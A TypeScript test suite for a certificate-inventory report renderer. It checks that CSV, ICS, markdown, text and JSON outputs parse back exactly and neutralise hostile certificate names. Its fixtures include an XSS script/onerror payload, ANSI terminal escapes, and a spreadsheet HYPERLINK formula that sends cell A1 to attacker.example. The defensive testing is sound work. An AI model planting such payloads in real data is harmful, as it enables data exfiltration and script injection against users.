// Every format, read back the way its consumer reads it: CSV by an RFC 4180
// parser, the calendar by an RFC 5545 line unfolder, markdown as table rows,
// JSON as data — with hostile certificate names in the estate.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { renderInventory } from '../../../src/report/inventory/render.js';
import { CSV_COLUMNS } from '../../../src/report/inventory/render-csv.js';
import { fold } from '../../../src/report/inventory/render-ics.js';
import { summarize } from '../../../src/report/build-report.js';
import { daysLeft } from '../../../src/report/inventory/certificate-facts.js';
import type { Report } from '../../../src/report/report-types.js';
import { generateEstate, hostileCertificates } from './estate.js';
import { DAY, NOW } from '../../helpers/clock.js';

function estate(): Report {
  const { report } = generateEstate();
  report.certificates.push(...hostileCertificates());
  report.summary = summarize(report.certificates, report.problems);
  return report;
}
const report = estate();

/** RFC 4180, strictly: CRLF records, quoted fields with doubled quotes; throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      if (i === text.length) return rows;
      continue;
    }
    throw new Error(`expected , or CRLF at ${i}, got ${JSON.stringify(text.slice(i, i + 10))}`);
  }
}

test('CSV: RFC 4180 parsed back — one row per certificate × location, every value intact', () => {
  const csv = renderInventory(report, 'csv');
  assert.ok(!/[^\r]\n/.test(csv.replace(/"(?:[^"]|"")*"/g, '')), 'every record ends with CRLF');
  const [head, ...rows] = parseCsv(csv);
  assert.deepEqual([...head], [...CSV_COLUMNS]);
  const col = (name: string): number => head.indexOf(name);
  assert.equal(
    rows.length,
    report.certificates.reduce((n, c) => n + Math.max(1, c.locations.length), 0),
  );
  for (const c of report.certificates.slice(0, 50)) {
    const mine = rows.filter((r) => r[col('fingerprint')] === c.fingerprint);
    assert.equal(mine.length, c.locations.length);
    for (const r of mine) {
      assert.equal(r[col('issuer')], c.issuer);
      assert.equal(r[col('serial')], c.serialNumber);
      assert.equal(r[col('not_after')], c.notAfter);
      assert.equal(Number(r[col('days_left')]), daysLeft(c, NOW));
      const worst =
        c.findings.find((f) => !f.ignored && f.severity === 'error') ??
        c.findings.find((f) => !f.ignored && f.severity === 'warning');
      assert.equal(r[col('status')], worst?.id ?? c.findings.find((f) => !f.ignored)?.id ?? 'ok');
    }
    const places = mine.map((r) => `${r[col('location_type')]} ${r[col('location')]} ${r[col('address')]}`).sort();
    const expected = c.locations
      .map((l) => (l.type === 'file' ? `file ${l.path}:${l.line} ` : `endpoint ${l.host}:${l.port} ${l.address ?? ''}`))
      .sort();
    assert.deepEqual(places, expected);
  }
  // Negative days_left stay numbers: expired certificates are in the estate.
  assert.ok(rows.some((r) => /^-\d+$/.test(r[col('days_left')])));
});

test('CSV: quotes, commas and newlines survive; cells that a spreadsheet would run as a formula are defused', () => {
  const [head, ...rows] = parseCsv(renderInventory(report, 'csv'));
  const col = (name: string): number => head.indexOf(name);
  const script = rows.find((r) => r[col('name')].startsWith('<script>'))!;
  assert.equal(
    script[col('subject')],
    'CN=<script>document.title="pwned"</script><img src=x onerror=alert(1)>,O=Evil "Quotes" & Co',
  );
  assert.equal(script[col('location')], 'certs/a|b,"c".pem:7');
  assert.equal(script[col('owner')], `'=HYPERLINK("http://attacker.example/?x="&A1,"click")`);
  const text = rows.find((r) => r[col('name')].startsWith('pipe|'))!;
  assert.equal(text[col('name')], 'pipe|name; semi, comma \\ back\nnewline');
  assert.equal(text[col('owner')], "'+team|ops");
  assert.equal(
    rows.find((r) => r[col('name')].startsWith('zertifikat'))![col('owner')],
    "'-sre \u001b[31mred\u001b[0m",
  );
  // No cell anywhere begins with a formula trigger (numbers we computed excepted).
  for (const r of rows)
    for (const [i, v] of r.entries()) if (head[i] !== 'days_left') assert.ok(!/^[=+\-@]/.test(v), `${head[i]}: ${v}`);
});

/** RFC 5545 §3.1: unfold (CRLF followed by one space or tab continues the line). */
function unfoldIcs(text: string): string[] {
  assert.ok(text.endsWith('\r\n'));
  assert.ok(!/[^\r]\n/.test(text), 'only CRLF line breaks');
  for (const line of text.split('\r\n'))
    assert.ok(Buffer.byteLength(line, 'utf8') <= 75, `folded to 75 octets: ${line}`);
  return text
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n')
    .slice(0, -1);
}

function unescapeIcsText(v: string): string {
  return v.replace(/\\([\\;,nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));
}

interface Vevent {
  [prop: string]: string;
}

function vevents(lines: string[]): Vevent[] {
  const out: Vevent[] = [];
  let cur: Vevent | null = null;
  let depth = 0;
  for (const line of lines) {
    if (line === 'BEGIN:VEVENT') (cur = {}), (depth = 0);
    else if (line === 'END:VEVENT') out.push(cur!), (cur = null);
    else if (cur && line === 'BEGIN:VALARM') depth++;
    else if (cur && line === 'END:VALARM') depth--;
    else if (cur) {
      const colon = line.indexOf(':');
      const name = line.slice(0, colon);
      cur[depth ? `VALARM.${name}` : name] = line.slice(colon + 1);
    }
  }
  return out;
}

test('ICS: one VEVENT per certificate on the day it expires, parsed back after unfolding', () => {
  const ics = renderInventory(report, 'ics');
  const lines = unfoldIcs(ics);
  assert.equal(lines[0], 'BEGIN:VCALENDAR');
  assert.equal(lines.at(-1), 'END:VCALENDAR');
  assert.ok(lines.includes('VERSION:2.0'));
  assert.ok(lines.some((l) => l.startsWith('PRODID:')));
  const events = vevents(lines);
  assert.equal(events.length, report.certificates.length);
  assert.equal(lines.filter((l) => l === 'BEGIN:VEVENT').length, lines.filter((l) => l === 'END:VEVENT').length);
  for (const c of report.certificates) {
    const e = events.find((x) => x.UID === `${c.fingerprint}@certwatch`);
    assert.ok(e, c.fingerprint);
    assert.equal(e.DTSTAMP, '20261122T030000Z');
    const day = c.notAfter.slice(0, 10).replace(/-/g, '');
    assert.equal(e['DTSTART;VALUE=DATE'], day);
    const next = new Date(Date.parse(c.notAfter.slice(0, 10)) + DAY).toISOString().slice(0, 10).replace(/-/g, '');
    assert.equal(e['DTEND;VALUE=DATE'], next, 'DTEND is the exclusive next day');
    assert.equal(e['VALARM.TRIGGER'], '-P30D');
  }
  // The year boundary: a certificate expiring on 31 December ends on 1 January.
  const dec31 = report.certificates.find((c) => c.notAfter.slice(5, 10) === '12-31');
  if (dec31) assert.match(events.find((x) => x.UID.startsWith(dec31.fingerprint))!['DTEND;VALUE=DATE'], /^\d{4}0101$/);
});

test('ICS: commas, semicolons, backslashes and newlines are escaped and read back exactly', () => {
  const events = vevents(unfoldIcs(renderInventory(report, 'ics')));
  const pipe = report.certificates.find((c) => c.subjectCN?.startsWith('pipe|'))!;
  const e = events.find((x) => x.UID.startsWith(pipe.fingerprint))!;
  assert.equal(e.SUMMARY, 'Certificate expires: pipe|name\\; semi\\, comma \\\\ back\\nnewline');
  assert.equal(unescapeIcsText(e.SUMMARY), `Certificate expires: ${pipe.subjectCN}`);
  const description = unescapeIcsText(e.DESCRIPTION);
  assert.match(
    description,
    /^Issuer: Example, Inc\. Issuing CA 1 \(CN=Example, Inc\. Issuing CA 1,O=Example, Inc\.,C=US\)$/m,
  );
  assert.match(description, /^- pipe\.example\.com:8443$/m);
  assert.match(description, /^Owner: \+team\|ops$/m);
  // An unescaped , or ; would split the value for a reader: none remain outside escapes.
  assert.ok(!/(^|[^\\])(\\\\)*[;,]/.test(e.DESCRIPTION));
});

test('ICS: folding counts octets and never splits a UTF-8 character', () => {
  const events = vevents(unfoldIcs(renderInventory(report, 'ics')));
  const u = report.certificates.find((c) => c.subjectCN?.startsWith('zertifikat'))!;
  assert.equal(
    unescapeIcsText(events.find((x) => x.UID.startsWith(u.fingerprint))!.SUMMARY),
    `Certificate expires: ${u.subjectCN}`,
  );
  for (let n = 60; n < 200; n += 7) {
    const line = 'X:' + '日本€ü'.repeat(n).slice(0, n);
    const folded = fold(line);
    for (const part of folded.split('\r\n')) assert.ok(Buffer.byteLength(part) <= 75 && !part.includes('\uFFFD'));
    assert.equal(folded.replace(/\r\n /g, ''), line);
  }
});

test('markdown: groups, concentration, drift and certificates as GFM tables; a | in a name cannot add a column', () => {
  const md = renderInventory(report, 'markdown');
  for (const h of [
    '### By issuing CA',
    '### By root',
    '### By owner',
    '### By key type',
    '### Concentration',
    '### Drift',
    '### Certificates',
  ])
    assert.ok(md.includes(h), h);
  // Count cells the way GFM splits a row: on every | that is not escaped.
  const cellCount = (row: string): number => row.replace(/\\\\/g, '').split(/(?<!\\)\|/).length - 2;
  let columns = 0;
  let checked = 0;
  for (const line of md.split('\n')) {
    if (!line.startsWith('| ')) {
      columns = 0;
      continue;
    }
    if (columns === 0)
      columns = cellCount(line); // the header row
    else assert.equal(cellCount(line), columns, line), checked++;
  }
  assert.ok(checked > report.certificates.length);
  assert.ok(md.includes('pipe\\|name; semi, comma \\\\ back newline'), 'pipe escaped, newline flattened');
  assert.ok(md.includes('&lt;script&gt;'), 'markup shown as text');
  assert.ok(!md.includes('<script>'));
  const certRows = md
    .slice(md.indexOf('### Certificates'))
    .split('\n')
    .filter((l) => l.startsWith('| ') && !l.startsWith('| Status') && !l.startsWith('| ---'));
  assert.equal(certRows.length, report.certificates.length);
});

test('text: aligned columns, colour only when asked, terminal escapes in names neutralised', () => {
  const plain = renderInventory(report, 'text');
  assert.ok(!plain.includes('\u001b'), 'no escape sequences without colour — not even from a hostile owner');
  assert.ok(plain.includes('\\x1b[31mred'));
  const lines = plain.split('\n');
  const start = lines.findIndex((l) => l.startsWith('Certificates'));
  const table = lines.slice(start + 1, start + 1 + report.certificates.length + 1);
  const daysCol = table[0].indexOf('DAYS LEFT') + 'DAYS LEFT'.length;
  for (const l of table.slice(1))
    assert.match(l.slice(daysCol - 4, daysCol), /^ *-?\d+$/, `right-aligned days left: ${l}`);
  assert.ok(plain.includes("If R11 (Let's Encrypt) revoked everything today:"));
  const coloured = renderInventory(report, 'text', { color: true });
  assert.ok(coloured.includes('\u001b[31m'));
  assert.equal(coloured.replace(/\u001b\[[0-9;]*m/g, ''), plain, 'colour adds nothing but colour');
});

test('json: the filtered report plus inventory.groups/concentration/drift', () => {
  const parsed = JSON.parse(renderInventory(report, 'json'));
  assert.equal(parsed.version, 1);
  assert.equal(parsed.certificates.length, report.certificates.length);
  assert.deepEqual(parsed.summary, report.summary);
  assert.deepEqual(Object.keys(parsed.inventory.groups).sort(), ['issuer', 'key', 'owner', 'root']);
  assert.ok(parsed.inventory.concentration.length > 0);
  assert.ok(Array.isArray(parsed.inventory.drift));
  assert.equal(parsed.inventory.forecast.length, 14);
  assert.equal(
    parsed.certificates.find((c: { subjectCN: string }) => c.subjectCN.startsWith('<script>')).subjectCN,
    report.certificates.find((c) => c.subjectCN?.startsWith('<script>'))!.subjectCN,
  );
});
